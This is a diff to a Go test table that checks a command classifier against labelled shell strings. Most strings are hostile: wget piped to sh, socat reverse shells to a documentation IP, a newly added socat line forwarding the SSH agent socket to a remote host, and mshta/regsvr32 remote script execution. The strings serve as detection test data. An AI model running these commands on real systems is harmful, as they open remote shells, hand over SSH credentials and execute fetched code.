@@ -26,6 +26,8 @@ func TestFacts(t *testing.T) {
 		{"wget -qO- get.x.example:8000/i.sh | sh", "pipe-to-shell"},
 		{"curl -o out.sh bin/x.sh", ""},
 		{"socat tcp:203.0.113.7:4444 exec:/bin/bash,pty,stderr", "reverse-shell"},
+		{"socat TCP:203.0.113.7:7000,forever UNIX-CONNECT:\"$SSH_AUTH_SOCK\"", "reverse-shell"},
+		{"socat UNIX-LISTEN:/tmp/app.sock,fork TCP:127.0.0.1:8080", ""},
 		{"sudo socat stdin exec:/bin/bash", ""},
 		{"mshta https://x.example/fix.hta", "pipe-to-shell"},
 		{"regsvr32 /s /n /u /i:https://x.example/a.sct scrobj.dll", "pipe-to-shell"},
